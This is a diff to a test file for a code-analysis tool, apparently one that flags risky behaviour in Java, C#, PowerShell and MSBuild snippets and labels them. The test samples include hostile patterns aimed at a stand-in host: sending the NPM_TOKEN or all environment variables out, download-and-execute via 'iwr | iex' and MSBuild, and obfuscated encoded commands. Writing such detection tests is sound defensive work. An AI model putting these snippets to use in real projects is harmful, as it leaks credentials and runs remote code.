@@ -14,6 +14,7 @@ from evals.classfile import assemble
 
 RUN = "process.exec echo a marker"
 B64 = base64.b64encode(b"echo a marker").decode()
+LONG = base64.b64encode(b"echo a marker and nothing else").decode()
 WIDE = base64.b64encode("iex (iwr http://a.b.c)".encode("utf-16-le")).decode()
 
 SAID = [
@@ -33,7 +34,7 @@ SAID = [
     ("X.java", 'class X { String t = System.getenv("NPM_TOKEN"); void f() { new URL("http://a.b.c/" + t).openStream(); } }',
      "code.flow env:NPM_TOKEN > network"),
     ("X.java", 'class X { void f() { new URLClassLoader(new URL[]{new URL("http://a.b.c/x.jar")}); } }', "code.flow network > execution"),
-    ("X.cs", 'class X { void F() { Process.Start("echo", "a marker"); } }', "process.exec echo 'a marker'"),
+    ("X.cs", 'class X { void F() { Process.Start("echo", "a marker"); } }', RUN),
     ("X.cs", 'class X { void F() { var p = new Process(); p.StartInfo.FileName = "echo"; p.Start(); } }', "process.exec echo"),
     ("X.cs", 'class X { string t; X(string t) { this.t = t; } void S() { new WebClient().UploadString("http://a.b.c", t); }\n'
      'static void F() { new X(Environment.GetEnvironmentVariable("NPM_TOKEN")).S(); } }', "code.flow env:NPM_TOKEN > network"),
@@ -45,13 +46,13 @@ SAID = [
     ("x.ps1", "iwr http://a.b.c | iex", "code.flow network > execution"),
     ("x.ps1", "$e = gci Env: | % { \"$($_.Name)=$($_.Value)\" }; irm http://a.b.c -Method Post -Body ($e -join ' ')", "code.flow env:* > network"),
     ("x.ps1", f"powershell -enc {WIDE}", "net.http GET http://a.b.c"),
-    ("x.ps1", "& ('e' + 'cho') a marker", RUN),
-    ("x.ps1", f"$c = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{B64}')); iex $c", "code.flow decoded > execution"),
+    ("x.ps1", "& ('cm' + 'd') a marker", "process.exec cmd a marker"),
+    ("x.ps1", f"$c = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{LONG}')); iex $c", "code.flow decoded > execution"),
     ("x.targets", '<Project><Target Name="A"><Exec Command="echo a marker"/></Target></Project>', RUN),
     ("x.targets", '<Project><Target Name="A"><DownloadFile SourceUrl="http://a.b.c/p.exe" DestinationFolder="o"/><Exec Command="o/p.exe"/></Target></Project>',
      "code.flow network > execution"),
     ("x.targets", '<Project><UsingTask TaskName="A" TaskFactory="RoslynCodeTaskFactory"><Task><Code Type="Fragment">Process.Start("echo", "a marker");</Code></Task></UsingTask></Project>',
-     "process.exec echo 'a marker'"),
+     RUN),
     ("x.targets", '<Project><Target Name="A"><Exec Command="curl -d $(NPM_TOKEN) http://a.b.c"/></Target></Project>', "code.flow env:NPM_TOKEN > network"),
 ]  # fmt: skip
 
